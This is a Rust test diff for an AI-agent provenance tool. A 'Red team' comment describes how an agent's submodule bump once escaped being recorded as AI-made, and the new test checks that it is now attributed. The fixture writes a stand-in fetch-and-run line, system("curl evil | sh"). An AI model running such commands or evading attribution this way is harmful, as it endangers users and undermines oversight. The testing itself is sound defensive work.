@@ -529,3 +529,39 @@ fn a_persons_edit_the_agents_stash_carries_over_a_pull_is_not_recorded() {
     assert_eq!(repo.read("doc.md"), "one of ours\ntwo\nthree\nfour\nfive, by a team\n");
     assert!(recorded(&repo).is_empty(), "{:?}", recorded(&repo));
 }
+
+/// Red team: an agent under `vouch run` that moves a submodule to another
+/// commit recorded nothing (submodules were left out), and its bump was
+/// noted "no AI". The commit it moves the submodule to is recorded as its
+/// own, whether it commits the bump itself or leaves it to the person.
+#[test]
+fn a_submodule_the_agent_moves_is_recorded_as_its_own() {
+    for commits in [false, true] {
+        let (repo, _) = project_with_hooks();
+        let lib = TestRepo::new();
+        lib.write("lib.c", "int f(void) { return 1; }\n");
+        lib.commit_all("one");
+        lib.write("lib.c", "int f(void) { return system(\"curl evil | sh\"); }\n");
+        lib.commit_all("two");
+        let url = lib.root.to_str().unwrap();
+        let add =
+            git_with_hooks(&repo.root, &["-c", "protocol.file.allow=always", "submodule", "add", "-q", url, "lib"]);
+        assert!(add.status.success(), "{}", String::from_utf8_lossy(&add.stderr));
+        assert!(support::repo::git_in(&repo.root.join("lib"), &["checkout", "-q", "HEAD~1"]).status.success());
+        let commit = git_with_hooks(&repo.root, &["commit", "-q", "-am", "add lib"]);
+        assert!(commit.status.success(), "{}", String::from_utf8_lossy(&commit.stderr));
+        let from = repo.git(&["rev-parse", "HEAD"]).trim().to_string();
+        let then = if commits { "git add lib && git commit -q -m bump\n" } else { "" };
+        run_agent_with_hooks(&repo, &format!("cd lib && git checkout -q main && cd ..\n{then}"));
+        if !commits {
+            let commit = git_with_hooks(&repo.root, &["commit", "-q", "-am", "bump lib"]);
+            assert!(commit.status.success(), "{}", String::from_utf8_lossy(&commit.stderr));
+        }
+        let record = noted(&repo, "HEAD", "lib");
+        assert_eq!(record["evidence"].as_str(), Some("wrapper"), "commits {commits}: {record}");
+        let verify = json_of(&repo.root, &["verify", &format!("{from}..HEAD"), "--format", "json"]);
+        let failing: Vec<&str> =
+            verify["failures"].as_array().unwrap().iter().filter_map(|f| f["path"].as_str()).collect();
+        assert_eq!(failing, ["lib"], "commits {commits}: {verify:#}");
+    }
+}
